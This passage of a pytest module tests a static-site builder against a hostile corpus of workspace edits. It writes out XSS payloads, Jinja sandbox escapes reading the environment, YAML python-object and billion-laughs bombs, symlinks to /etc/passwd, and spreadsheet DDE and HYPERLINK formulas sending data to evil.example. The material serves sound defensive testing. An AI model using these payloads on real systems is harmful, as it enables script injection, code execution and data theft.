"""A hostile corpus: what an attacker, or a hurried account manager, would put into a workspace —
markup in names, attribute lists and reserved ids in Markdown, raw HTML, active images and links,
files dropped into themes/, links out of content/, stray bytes, invisible controls, the builder's
environment, YAML bombs, spreadsheet formulas, amounts that read two ways.

Each case is a small function that edits a copy of the demo workspace, and says what must happen:
- refused: `check` reports an error at the file, line and code the case returns, and `build` builds
  nothing;
- builds: every such case is applied to ONE copy, built once, and every page of every site is loaded
  in Chromium from file:// (the search typed on three sites, the links whose titles hold names
  hovered): no dialog, no request outside the site, no element with a reserved id, no handler, no
  markup in a tooltip, no bidi control left unisolated, and no canary where it does not belong (the
  internal site, which must show the internal canary, is the positive control). What they wrote is
  shown as typed, and the exports of every site hold nothing a spreadsheet would run.

A case that shows a hole is marked xfail (strict), with the hole said in its reason.
"""
from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Callable
from urllib.parse import unquote, urlparse

import pytest

from conftest import CHROMIUM, CHROMIUM_FLAGS, DEMO_EPOCH, build_on_demo_day, copy_demo
from pressbook.build import build
from pressbook.checking import check_workspace

# Written in fields only the internal site shows: it must be there, and nowhere else.
INTERNAL = "ZqHostileInternalQz"
# Written where no site may take it from (a stray file of themes/ or content/): never published.
SECRET = "ZqHostileSecretQz"

PRINTEMPS = "content/campaigns/printemps-eclat-2026"
NOEL = "content/campaigns/noel-gourmand-2026"
VELOTAF = "content/campaigns/rentree-velotaf-2026"
LEA = "content/influencers/lea-fontaine.md"
HUGO = "content/influencers/hugo-benoit.md"
VELONDE = "content/clients/velonde.yml"
SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


# --- editing a copy of the demo ------------------------------------------------------------------

def _edit(root: Path, path: str, old: str, new: str, encoding: str = "utf-8") -> None:
    file = root / path
    text = file.read_text(encoding=encoding)
    assert old in text, (path, old)
    file.write_text(text.replace(old, new, 1), encoding=encoding, newline="")


def _append(root: Path, path: str, text: str) -> None:
    file = root / path
    file.write_text(file.read_text(encoding="utf-8") + text, encoding="utf-8", newline="")


def _write(root: Path, path: str, text: str | bytes) -> Path:
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return file


def _line(root: Path, path: str, needle: str, encoding: str = "utf-8") -> int:
    """The line of `path` where `needle` is first written: where the check must point."""
    text = (root / path).read_text(encoding=encoding, errors="replace")
    assert needle in text, (path, needle)
    return text[:text.index(needle)].count("\n") + 1


Expected = tuple[str, int, str]  # path, line, code
ANY_CODE = "*"  # where no code says it yet: any error at that place
REFUSED: dict[str, Callable[[Path], Expected]] = {}
BUILDS: dict[str, Callable[[Path], None]] = {}


def refused(case: Callable[[Path], Expected]) -> Callable[[Path], Expected]:
    REFUSED[case.__name__] = case
    return case


def builds(case: Callable[[Path], None]) -> Callable[[Path], None]:
    BUILDS[case.__name__] = case
    return case


# --- names ---------------------------------------------------------------------------------------
# Names are text: markup, quotes and template syntax in them are shown as typed, in <title>, the
# header, the navigation and the page alike.

@builds
def agency_name_with_markup(root: Path) -> None:
    _edit(root, "content/workspace.yml", "agency: Sillage Influence",
          "agency: \"Sillage <script>alert('agence')</script> & \\\"Co\\\" {{ 7*7 }}\"")


@builds
def site_name_with_markup(root: Path) -> None:
    _edit(root, "mkdocs.yml", "site_name: Sillage Influence",
          "site_name: \"Sillage</title><img src=x onerror=alert('site_name')>\"\n"
          "site_description: \"\\\"><script>alert('description')</script>\"\n"
          "copyright: \"<a href=javascript:alert('copyright')>©</a> Sillage\"")


@builds
def look_asking_for_fonts_analytics_and_social_links(root: Path) -> None:
    # Keys pressbook sets itself for every site: each a warning, and nothing loaded from elsewhere.
    _edit(root, "mkdocs.yml", "theme:\n  name: material\n", "theme:\n  name: material\n  font:\n    text: Roboto\n")
    _append(root, "mkdocs.yml", "extra:\n  analytics:\n    provider: google\n    property: G-ABCDEF1234\n"
            "  social:\n    - icon: fontawesome/brands/x-twitter\n      link: https://evil.example/\n")


@builds
def mkdocs_yml_asking_for_hooks_plugins_and_snippets(root: Path) -> None:
    # A hook or a plugin is Python run in the build; snippets read files of the machine into a page.
    _write(root, "hook.py", "import pathlib\npathlib.Path(__file__).with_name('HOOK-RAN').write_text('ran')\n")
    _write(root, "secret-snippet.txt", f"{SECRET}\n")
    _edit(root, "mkdocs.yml", "theme:\n", "hooks:\n  - hook.py\nplugins:\n  - search\n  - privacy\n"
          "markdown_extensions:\n  - attr_list\n  - md_in_html\n  - pymdownx.snippets:\n      base_path: [., /]\n"
          "theme:\n")
    _append(root, f"{VELOTAF}/report.md", '\n--8<-- "secret-snippet.txt"\n\n--8<-- "/etc/hostname"\n')


@builds
def client_name_with_markup_and_quotes(root: Path) -> None:
    _edit(root, VELONDE, "name: Vélonde", "name: \"Vélonde \\\"><img src=x onerror=alert('client')> 'quote'\"")


@builds
def influencer_name_closing_the_title(root: Path) -> None:
    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo Benoît</title><script>alert('influencer')</script>\"")


@builds
def contact_name_with_markup(root: Path) -> None:
    _edit(root, VELONDE, "  - name: Nadia Ferrand", "  - name: \"Nadia <b onmouseover=alert('contact')>Ferrand</b>\"")


@refused
def site_address_breaking_out_of_its_attribute(root: Path) -> Expected:
    # The public site's address is written into its canonical links, Open Graph tags and sitemap.
    _edit(root, "content/workspace.yml", "url: https://etudes-de-cas.sillage-influence.fr",
          "url: \"https://etudes.example/\\\"><script>alert('site_url')</script>\"")
    return "content/workspace.yml", _line(root, "content/workspace.yml", "url: \"https://etudes"), "schema.value"


@builds
def tags_handles_and_topics_with_markup(root: Path) -> None:
    _edit(root, f"{PRINTEMPS}/brief.md", '  - "#EclatDeLure"', '  - "#<img src=x onerror=alert(\'hashtag\')>"')
    _edit(root, f"{PRINTEMPS}/brief.md", '  - "@herbierdelure"', '  - "@x\\"><script>alert(\'mention\')</script>"')
    _edit(root, LEA, "handle: lea.fontaine", "handle: \"lea<script>alert('handle')</script>\"")
    _edit(root, LEA, "topics: [beauté, bien-être]", "topics: [beauté, \"<img src=x onerror=alert('topic')>\"]")
    _edit(root, f"{PRINTEMPS}/showcase.md", "  author: Hélène", "  author: <b onclick=alert('author')>Hélène</b>")


@refused
def name_with_a_line_break(root: Path) -> Expected:
    # A name is one line wherever it is shown (a title, a tab, a table cell): a line break is refused.
    _edit(root, VELONDE, "  - name: Grégoire Faure", "  - name: \"Grégoire\\n<h1>Faure</h1>\"")
    return VELONDE, _line(root, VELONDE, "  - name: \"Grégoire"), "schema.value"


@refused
def agency_name_with_a_line_break(root: Path) -> Expected:
    _edit(root, "content/workspace.yml", "agency: Sillage Influence", "agency: \"Sillage\\n<h1>Influence</h1>\"")
    return "content/workspace.yml", 1, "schema.value"


@refused
def influencer_name_with_a_carriage_return(root: Path) -> Expected:
    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo\\rBenoît <h1>x</h1>\"")
    return HUGO, _line(root, HUGO, "name: \"Hugo"), "schema.value"


@refused
def influencer_name_with_a_line_separator(root: Path) -> Expected:
    # U+2028, which Word and web pages paste: a line break to Unicode, and to the browser showing it.
    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo\\u2028Benoît\"")
    return HUGO, _line(root, HUGO, "name: \"Hugo"), "schema.value"


@builds
def campaign_title_with_attribute_quotes(root: Path) -> None:
    _edit(root, f"{NOEL}/brief.md", "title: ",
          "title: \"Noël' onmouseover='alert(1)' \\\" x=\\\" <i>gourmand</i>\" #")


@builds
def showcase_headline_with_markup(root: Path) -> None:
    _edit(root, f"{PRINTEMPS}/showcase.md", 'headline: "Éclat de printemps',
          'headline: "<svg onload=alert(\'headline\')></svg> Éclat de printemps')


@builds
def names_that_are_materials_own_ids(root: Path) -> None:
    # Material finds its settings, its search, its consent form by these ids: such a name stays text.
    _edit(root, "content/influencers/chloe-marin.md", "name: Chloé Marin", "name: __config")
    _edit(root, "content/clients/chocolaterie-belleroche.yml", "name: Chocolaterie Belleroche", "name: __consent")
    _edit(root, "content/clients/chocolaterie-belleroche.yml", "  - name: Karim Saïdi", "  - name: __md_hash")
    _edit(root, "content/campaigns/rituel-hiver-2027/brief.md", "title: ", "title: __palette #")


@refused
def name_with_control_characters_written_as_escapes(root: Path) -> Expected:
    # Typed raw, an escape character is refused by the YAML reader; written "\e" it is the same one.
    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo\\e]0;x\\a\\0Benoît\"")
    return HUGO, _line(root, HUGO, "name: \"Hugo"), ANY_CODE


@refused
def name_with_a_bidi_override(root: Path) -> Expected:
    _edit(root, HUGO, "name: Hugo Benoît", "name: Hugo \u202eBenoît")
    return HUGO, _line(root, HUGO, "name: Hugo"), "text.invisible"


@refused
def agency_name_with_a_zero_width_space(root: Path) -> Expected:
    _edit(root, "content/workspace.yml", "agency: Sillage Influence", "agency: Sillage\u200b Influence")
    return "content/workspace.yml", 1, "text.invisible"


# --- Markdown: attribute lists, reserved ids, reference links ------------------------------------

@builds
def attribute_list_after_a_code_span(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/report.md",
            "\nUn paragraphe avec `du code` {: #__config }\n\n"
            "`{` {: #__search .md-search }\n\n"
            "Texte\n{: #__palette data-md-component=\"search\" }\n")


@builds
def attribute_list_behind_quoting_tricks(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/report.md",
            "\nUn \"{: #__config }\" et '{: id=\"__search\" }' puis `\"` {: id='__config' }\n\n"
            "Fin \\{: #__tabs } et *{: #__drawer }*\n")


@builds
def headings_named_after_materials_globals(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/showcase.md", "\n## __search\n\n### __config {: #__config }\n\n#### __md_scope\n\n"
            "## Titre {#__tabs}\n")


@builds
def markdown_in_html_with_an_id(root: Path) -> None:
    _append(root, LEA, "\n<div markdown=\"1\" id=\"__config\">**gras**</div>\n\n<p id=\"__search\">x</p>\n")


@builds
def reference_links_to_scripts(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/report.md",
            "\nVoir [la méthode][m] et [l'annexe][a] et [ici].\n\n"
            "[m]: javascript:alert('reference')\n[a]: vbscript:msgbox(1)\n"
            "[ici]: data:text/html,<script>alert(1)</script>\n")


@builds
def autolinks_to_scripts(root: Path) -> None:
    _append(root, f"{NOEL}/brief.md", "\n<javascript:alert('autolink')> <https://example.org/ok> "
            "<vbscript:msgbox(1)> <mailto:x@example.org>\n")


# --- raw HTML ------------------------------------------------------------------------------------

@builds
def raw_script_and_style(root: Path) -> None:
    _append(root, LEA, "\n<script>alert('raw')</script>\n\n"
            "<style>body{background:url(https://evil.example/x)}</style>\n\n"
            "<link rel=stylesheet href=https://evil.example/x.css>\n")


@builds
def raw_html_comment_and_cdata_tricks(root: Path) -> None:
    _append(root, f"{NOEL}/brief.md", "\n<!--><script>alert('comment')</script>-->\n\n"
            "<![CDATA[<script>alert('cdata')</script>]]>\n\n"
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\n")


@builds
def raw_svg_and_math(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/showcase.md", "\n<svg><script>alert('svg')</script></svg>\n\n"
            "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')>\n")


# --- attributes ----------------------------------------------------------------------------------

@builds
def event_handler_through_an_attribute_list(root: Path) -> None:
    _append(root, f"{VELOTAF}/report.md", "\nUn paragraphe\n{: onclick=\"alert('attr')\" onmouseover=alert(2) }\n\n"
            "[lien](https://example.org){: onfocus=alert(3) autofocus }\n")


@builds
def style_through_an_attribute_list(root: Path) -> None:
    _append(root, f"{VELOTAF}/report.md",
            "\nFond\n{: style=\"background:url(https://evil.example/bg.png)\" }\n")


@builds
def srcdoc_and_handlers_in_raw_html(root: Path) -> None:
    _append(root, f"{VELOTAF}/brief.md", "\n<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>\n\n"
            "<details open ontoggle=alert('toggle')>x</details>\n\n<a href=\"#\" onclick=\"alert('a')\">clic</a>\n")


@builds
def link_title_breaking_out_of_its_attribute(root: Path) -> None:
    _append(root, f"{VELOTAF}/brief.md",
            "\n[titre](https://example.org \"t\\\" onmouseover=\\\"alert('title')\") et "
            "[x](https://example.org 'a\" autofocus onfocus=\"alert(1)')\n")


# --- images --------------------------------------------------------------------------------------

@refused
def data_svg_image_nested_in_a_link_label(root: Path) -> Expected:
    _append(root, f"{PRINTEMPS}/report.md", f"\nUne [![logo]({SVG})](https://example.org) ici.\n")
    return f"{PRINTEMPS}/report.md", _line(root, f"{PRINTEMPS}/report.md", "Une [!["), "markdown.image-outside"


@refused
def image_from_another_site(root: Path) -> Expected:
    _append(root, LEA, "\n![pixel](https://evil.example/pixel.png)\n")
    return LEA, _line(root, LEA, "![pixel]"), "markdown.image-outside"


@refused
def image_from_outside_content(root: Path) -> Expected:
    _append(root, f"{NOEL}/brief.md", "\n![contrat](../../../../etc/passwd)\n")
    return f"{NOEL}/brief.md", _line(root, f"{NOEL}/brief.md", "![contrat]"), "markdown.image-outside"


@refused
def image_through_assets_and_back_out(root: Path) -> Expected:
    _append(root, f"{NOEL}/brief.md", "\n![x](assets/../campaigns/noel-gourmand-2026/brief.md)\n")
    return f"{NOEL}/brief.md", _line(root, f"{NOEL}/brief.md", "![x](assets/.."), "markdown.image-outside"


@refused
def reference_style_image_from_another_site(root: Path) -> Expected:
    _append(root, f"{PRINTEMPS}/showcase.md",
            "\nLe ![suivi][pix] de la campagne.\n\n[pix]: https://evil.example/p.gif\n")
    return f"{PRINTEMPS}/showcase.md", _line(root, f"{PRINTEMPS}/showcase.md", "[pix]:"), "markdown.image-outside"


@refused
def image_in_a_table_cell(root: Path) -> Expected:
    _append(root, f"{VELOTAF}/report.md", "\n| a | b |\n|---|---|\n| x | ![i](http://evil.example/i.png) |\n")
    return f"{VELOTAF}/report.md", _line(root, f"{VELOTAF}/report.md", "![i]"), "markdown.image-outside"


@builds
def image_of_content_assets_with_markup_in_its_alt_and_title(root: Path) -> None:
    _append(root, f"{PRINTEMPS}/showcase.md", "\n![Le logo](assets/logos/herbier-de-lure.png)\n\n"
            "![<img src=x onerror=alert('alt')>]"
            "(assets/logos/herbier-de-lure.png '<svg onload=alert&#40;1&#41;> \"x')\n")


# --- links ---------------------------------------------------------------------------------------

@builds
def links_with_script_schemes(root: Path) -> None:
    _append(root, HUGO, "\n[a](javascript:alert('link')) [b](vbscript:msgbox(1)) "
            "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d](JaVaScRiPt:alert(4))\n")


@builds
def links_to_files_and_other_origins(root: Path) -> None:
    _append(root, HUGO, "\n[i](file:///etc/passwd) [j](//evil.example/x)\n\n"
            "Texte &#x3C;script&#x3E;alert(&#39;entity&#39;)&#x3C;/script&#x3E; en entités.\n")


@refused
def link_with_backslashes_to_another_host(root: Path) -> Expected:
    # Browsers read a backslash as a slash: two of them before a host make a link to another site.
    _append(root, HUGO, "\nVoir [le dossier](\\\\evil.example\\share).\n")
    return HUGO, _line(root, HUGO, "Voir [le dossier]"), ANY_CODE


@builds
def links_with_entity_encoded_schemes(root: Path) -> None:
    _append(root, HUGO, "\n[e](&#106;avascript:alert('entity')) [f](jav&#x09;ascript:alert(6)) "
            "[g](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(7)) "
            "[h]( javascript:alert(8))\n")


@refused
def website_with_a_script_scheme(root: Path) -> Expected:
    _edit(root, VELONDE, "website: https://www.velonde.fr", "website: javascript:alert('website')")
    return VELONDE, _line(root, VELONDE, "website:"), "schema.value"


@refused
def best_post_as_a_data_url(root: Path) -> Expected:
    _edit(root, HUGO, "  - https://www.youtube.com/watch?v=Cq4rT9pLz6m",
          "  - data:text/html,<script>alert(1)</script>")
    return HUGO, _line(root, HUGO, "  - data:text/html"), "schema.value"


@refused
def post_url_with_a_script_scheme(root: Path) -> Expected:
    _edit(root, f"{NOEL}/posts.csv", "https://www.instagram.com/reel/dyfx2lL3zNr/", "javascript:alert('post')")
    return f"{NOEL}/posts.csv", 2, "schema.value"


@refused
def best_post_address_breaking_out_of_its_attribute(root: Path) -> Expected:
    _edit(root, HUGO, "  - https://www.youtube.com/watch?v=Cq4rT9pLz6m",
          "  - \"https://example.org/?q=\\\"><img src=x onerror=alert('url')>\"")
    return HUGO, _line(root, HUGO, "  - \"https://example.org/?q="), "schema.value"


@refused
def website_with_a_quote_and_a_handler(root: Path) -> Expected:
    _edit(root, VELONDE, "website: https://www.velonde.fr",
          "website: \"https://www.velonde.fr/\\\" onmouseover=\\\"alert(1)\"")
    return VELONDE, _line(root, VELONDE, "website:"), "schema.value"


@refused
def email_address_holding_markup(root: Path) -> Expected:
    _edit(root, VELONDE, "email: nadia.ferrand@velonde.fr",
          "email: \"nadia\\\"><img src=x onerror=alert(1)>@velonde.fr\"")
    return VELONDE, _line(root, VELONDE, "email: \"nadia"), "schema.value"


@refused
def post_address_holding_markup(root: Path) -> Expected:
    _edit(root, f"{NOEL}/posts.csv", "https://www.instagram.com/reel/dyfx2lL3zNr/",
          "\"https://www.instagram.com/reel/x?\"\"><img src=x onerror=alert(1)>\"")
    return f"{NOEL}/posts.csv", 2, "schema.value"


# --- themes --------------------------------------------------------------------------------------

@refused
def theme_file_linked_to_a_file_of_the_machine(root: Path) -> Expected:
    (root / "themes" / "assets").mkdir(parents=True)
    (root / "themes" / "assets" / "extra.css").symlink_to("/etc/passwd")
    return "themes/assets/extra.css", 1, "theme.symlink"


@builds
def stray_text_and_markdown_in_theme_assets(root: Path) -> None:
    _write(root, "themes/assets/contrat.txt", f"Contrat signé {SECRET}\n")
    _write(root, "themes/assets/notes.md", f"# Notes {SECRET}\n")
    _write(root, "themes/overrides/partials/tarifs.csv", f"influencer,fee\nlea,{SECRET}\n")
    _write(root, "themes/assets/.env.css", f"/* TOKEN={SECRET} */\n")  # a hidden file, of a published kind


@refused
def theme_template_with_a_jinja_syntax_error(root: Path) -> Expected:
    _write(root, "themes/pages/journal.md", "# Journal\n\n{% for entry in entries %}\n{{ entry.summary }\n")
    return "themes/pages/journal.md", 4, "theme.template"


@builds
def unknown_label_key(root: Path) -> None:
    _write(root, "themes/labels.yml", "fr:\n  dashbord: \"<script>alert('label')</script>\"\n"
           "  journal: \"Carnet <img src=x onerror=alert('label')>\"\n"
           "  notes: \"Notes <svg onload=alert('heading')>\"\n")


@refused
def label_that_is_a_reserved_heading_id(root: Path) -> Expected:
    # Labels are headings of pressbook's pages (## {{ labels.notes }}), whose ids MkDocs makes of them.
    _write(root, "themes/labels.yml", "fr:\n  notes: __config\n")
    return "themes/labels.yml", 2, "theme.label"


@refused
def label_that_is_a_script_link(root: Path) -> Expected:
    _write(root, "themes/labels.yml", "fr:\n  networks: \"[Réseaux](javascript:alert('label'))\"\n")
    return "themes/labels.yml", 2, "theme.label"


@refused
def theme_page_template_reading_the_environment(root: Path) -> Expected:
    # Jinja reaches Python's modules through any function's globals, unless it is sandboxed.
    _write(root, "themes/pages/method.md", "# Méthode\n\n{{ lipsum.__globals__['os'].environ.get('HOME') }}\n")
    return "themes/pages/method.md", 3, "theme.template"


@refused
def theme_override_running_python(root: Path) -> Expected:
    _write(root, "themes/overrides/main.html", '{% extends "base.html" %}\n{% block announce %}\n'
           "{{ cycler.__init__.__globals__.os.getcwd() }}\n{% endblock %}\n")
    return "themes/overrides/main.html", 3, "theme.template"


@refused
def theme_template_including_a_file_of_the_machine(root: Path) -> Expected:
    _write(root, "themes/pages/journal.md", "# Journal\n{% include '../../../../../../etc/passwd' %}\n")
    return "themes/pages/journal.md", 2, "theme.template"


@refused
def themes_itself_a_link(root: Path) -> Expected:
    (root.parent / "elsewhere-theme" / "assets").mkdir(parents=True)
    (root / "themes").symlink_to(root.parent / "elsewhere-theme", target_is_directory=True)
    return "themes", 1, "theme.symlink"


@refused
def duplicate_label_key(root: Path) -> Expected:
    _write(root, "themes/labels.yml", "fr:\n  journal: Carnet\n  journal: Journal\n")
    return "themes/labels.yml", 3, "yaml.duplicate-key"


# --- files named by the workspace ----------------------------------------------------------------

@refused
def logo_outside_content(root: Path) -> Expected:
    _edit(root, VELONDE, "logo: assets/logos/velonde.png", "logo: assets/../../mkdocs.yml")
    return VELONDE, _line(root, VELONDE, "logo:"), "file.outside"


@refused
def logo_that_is_an_svg_with_a_script(root: Path) -> Expected:
    _write(root, "content/assets/logos/velonde.svg",
           '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("logo")</script></svg>')
    _edit(root, VELONDE, "logo: assets/logos/velonde.png", "logo: assets/logos/velonde.svg")
    return VELONDE, _line(root, VELONDE, "logo:"), "file.image"


@refused
def cover_from_another_site(root: Path) -> Expected:
    path = f"{PRINTEMPS}/showcase.md"
    _edit(root, path, "cover: assets/covers/printemps-eclat-2026.png", "cover: https://evil.example/cover.png")
    return path, _line(root, path, "cover:"), "file.outside"


@refused
def theme_logo_from_another_site(root: Path) -> Expected:
    _edit(root, "mkdocs.yml", "theme:\n  name: material",
          "theme:\n  name: material\n  logo: https://evil.example/l.png")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "  logo:"), "schema.value"


@refused
def python_tag_in_a_content_file(root: Path) -> Expected:
    _append(root, VELONDE, "extra: !!python/object/apply:os.getcwd []\n")
    return VELONDE, _line(root, VELONDE, "extra:"), "yaml.tag"


@refused
def file_larger_than_a_mebibyte(root: Path) -> Expected:
    _append(root, f"{NOEL}/brief.md", "\n" + ("Lorem ipsum dolor sit amet. " * 40 + "\n") * 1000)
    return f"{NOEL}/brief.md", 1, "file.too-large"


@refused
def bidi_override_in_a_file_name(root: Path) -> Expected:
    card = root / "content" / "influencers" / "hugo-benoit.md"
    card.rename(card.with_name("hugo-\u202etxt.md"))
    return "content/influencers/hugo-\u202etxt.md", 1, "text.invisible"


@builds
def emoji_joined_by_a_zero_width_joiner_in_a_name(root: Path) -> None:
    # The joiner is how the emoji is written: a name may hold it (a handle may not).
    _edit(root, "content/influencers/noe-garnier.md", "name: Noé Garnier", "name: Noé Garnier 👨\u200d🍳")


# --- symbolic links in content/ ------------------------------------------------------------------

@refused
def influencer_card_linked_outside(root: Path) -> Expected:
    outside = _write(root.parent, "outside/card.md", "---\nname: Ailleurs\n---\n")
    (root / "content" / "influencers" / "ailleurs.md").symlink_to(outside)
    return "content/influencers/ailleurs.md", 1, "file.symlink"


@refused
def logo_linked_to_a_file_of_the_machine(root: Path) -> Expected:
    logo = root / "content" / "assets" / "logos" / "velonde.png"
    logo.unlink()
    logo.symlink_to("/etc/hostname")
    return "content/assets/logos/velonde.png", 1, "file.symlink"


@refused
def campaign_folder_linked_outside(root: Path) -> Expected:
    shutil.copytree(root / NOEL, root.parent / "elsewhere")
    (root / "content" / "campaigns" / "noel-gourmand-2027").symlink_to(root.parent / "elsewhere")
    return "content/campaigns/noel-gourmand-2027", 1, "file.symlink"


# --- encodings -----------------------------------------------------------------------------------

@refused
def stray_byte_in_a_utf8_csv(root: Path) -> Expected:
    posts = root / f"{NOEL}/posts.csv"
    data = posts.read_bytes()
    at = data.index("faites à Lyon".encode())
    posts.write_bytes(data[:at] + b"faites \xe0 Lyon" + data[at + len("faites à Lyon".encode()):])
    return f"{NOEL}/posts.csv", 3, "file.encoding"


@refused
def stray_byte_in_a_brief(root: Path) -> Expected:
    brief = root / f"{NOEL}/brief.md"
    brief.write_bytes(brief.read_bytes().replace(b"status:", b"\x93status:", 1))
    return f"{NOEL}/brief.md", _line(root, f"{NOEL}/brief.md", "status:"), "file.encoding"


@refused
def utf16_client_file(root: Path) -> Expected:
    client = root / VELONDE
    client.write_bytes(client.read_text(encoding="utf-8").encode("utf-16"))
    return VELONDE, 1, "file.encoding"


@builds
def cp1252_csv_read_without_mojibake(root: Path) -> None:
    # Saved by Windows Excel: no byte of UTF-8 in it, every accent a byte of cp1252.
    _edit(root, f"{VELOTAF}/posts.csv", "Grenoble – Meylan sous la pluie",
          "Grenoble – Meylan, crème brûlée sous la pluie", encoding="cp1252")
    mentions = root / f"{PRINTEMPS}/mentions.csv"
    text = mentions.read_text(encoding="utf-8").encode("cp1252", errors="ignore").decode("cp1252")  # no emoji
    mentions.write_bytes(text.encode("cp1252"))


# --- invisible characters -------------------------------------------------------------------------

@refused
def bidi_override_in_a_handle(root: Path) -> Expected:
    _edit(root, LEA, "handle: lea.fontaine", "handle: lea.\u202efontaine")
    return LEA, _line(root, LEA, "handle: lea."), "text.invisible"


@refused
def zero_width_space_in_an_influencer_id(root: Path) -> Expected:
    _edit(root, f"{PRINTEMPS}/brief.md", "  - influencer: camille-roux", "  - influencer: camille\u200b-roux")
    return f"{PRINTEMPS}/brief.md", _line(root, f"{PRINTEMPS}/brief.md", "camille\u200b"), "text.invisible"


@refused
def bidi_isolate_in_a_post_id(root: Path) -> Expected:
    _edit(root, f"{NOEL}/posts.csv", "n01,", "n01\u2066,")
    return f"{NOEL}/posts.csv", 2, "text.invisible"


@refused
def byte_order_mark_in_a_website(root: Path) -> Expected:
    _edit(root, VELONDE, "website: https://www.velonde.fr", "website: https://www.\ufeffvelonde.fr")
    return VELONDE, _line(root, VELONDE, "website:"), "text.invisible"


@builds
def bidi_controls_in_free_text(root: Path) -> None:
    _edit(root, LEA, "summary: Déjeuner au", "summary: \u202eDéjeuner\u202c 4200 au")
    _edit(root, f"{PRINTEMPS}/posts.csv", "Trois semaines que je teste",
          "Trois \u2067semaines\u2069 que je \u202eteste")
    _edit(root, LEA, "Ce qu'il faut savoir", "Ce \u202equ'il faut\u202c savoir")
    _edit(root, VELONDE, "Fabricant grenoblois", f"Fabricant \u202egrenoblois {INTERNAL}")


# --- the builder's environment -------------------------------------------------------------------

@refused
def env_home_in_mkdocs_yml(root: Path) -> Expected:
    _append(root, "mkdocs.yml", "copyright: !ENV HOME\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "copyright: !ENV"), "yaml.tag"


@refused
def env_path_with_a_default_in_extra(root: Path) -> Expected:
    _append(root, "mkdocs.yml", "extra:\n  chemin: !ENV [PATH, rien]\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "chemin:"), "yaml.tag"


@refused
def python_tag_in_mkdocs_yml(root: Path) -> Expected:
    _append(root, "mkdocs.yml", "extra:\n  x: !!python/object/apply:os.system [\"echo pwned\"]\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "  x: !!python"), "yaml.tag"


@refused
def homepage_with_a_script_scheme(root: Path) -> Expected:
    # Material links the header's logo to extra.homepage.
    _append(root, "mkdocs.yml", "extra:\n  homepage: javascript:alert('homepage')\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "  homepage:"), ANY_CODE


@refused
def language_link_with_a_script_scheme(root: Path) -> Expected:
    _append(root, "mkdocs.yml", "extra:\n  alternate:\n    - name: English\n      link: javascript:alert('lang')\n"
            "      lang: en\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "      link:"), ANY_CODE


@refused
def version_selector_reading_outside_the_site(root: Path) -> Expected:
    # Material's version selector fetches ../versions.json: the folder above the site, or on a web
    # server the sites that share its host.
    _append(root, "mkdocs.yml", "extra:\n  version:\n    provider: mike\n")
    return "mkdocs.yml", _line(root, "mkdocs.yml", "  version:"), ANY_CODE


# --- YAML bombs ----------------------------------------------------------------------------------

_LAUGHS = "".join(f"{k}: &{k} [{', '.join([f'*{p}'] * 9)}]\n" for p, k in zip("abcdefgh", "bcdefghi"))


@refused
def billion_laughs_in_a_client_file(root: Path) -> Expected:
    _append(root, VELONDE, "extra_laughs:\n  a: &a [\"lol\"]\n" + "".join("  " + l for l in _LAUGHS.splitlines(True)))
    return VELONDE, _line(root, VELONDE, "&a"), "yaml.anchor"


@refused
def billion_laughs_in_mkdocs_yml(root: Path) -> Expected:
    _append(root, "mkdocs.yml", "extra:\n  a: &a [\"lol\"]\n" + "".join("  " + l for l in _LAUGHS.splitlines(True)))
    # Where the aliases come to stand for more than 10,000 values.
    return "mkdocs.yml", _line(root, "mkdocs.yml", "  e: &e"), "yaml.anchor"


@refused
def alias_in_front_matter(root: Path) -> Expected:
    _edit(root, LEA, "topics: [beauté, bien-être]", "topics: &t [beauté, bien-être]\ncontent_types2: *t")
    return LEA, _line(root, LEA, "topics: &t"), "yaml.anchor"


@refused
def nesting_deeper_than_fifty_levels(root: Path) -> Expected:
    _append(root, VELONDE, "deep: " + "[" * 200 + "]" * 200 + "\n")
    return VELONDE, _line(root, VELONDE, "deep:"), "yaml.syntax"


# --- spreadsheet formulas ------------------------------------------------------------------------
# A caption or a mention is text: a formula in it is shown as typed on the sites. Exports hold ids,
# names of metrics and numbers only, so no cell of theirs can start a formula (see the export test).

@builds
def formula_in_a_caption(root: Path) -> None:
    _edit(root, f"{NOEL}/posts.csv", "Le calendrier de l'Avent",
          "=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"Cliquez\"\")\nLe calendrier de l'Avent")


@builds
def dde_formula_in_a_caption(root: Path) -> None:
    _edit(root, f"{PRINTEMPS}/posts.csv", "👉 2 gouttes le matin",
          "@SUM(1+1)*cmd|' /C calc'!A0\n👉 2 gouttes le matin")
    _edit(root, f"{NOEL}/mentions.csv", "\"Calendrier commandé", "\"+1-2@SUM(1) Calendrier commandé")


@refused
def formula_as_a_post_id(root: Path) -> Expected:
    _edit(root, f"{NOEL}/posts.csv", "\nn01,", "\n=1+1,")
    return f"{NOEL}/posts.csv", 2, "schema.value"


@refused
def minus_formula_as_a_post_id_in_metrics(root: Path) -> Expected:
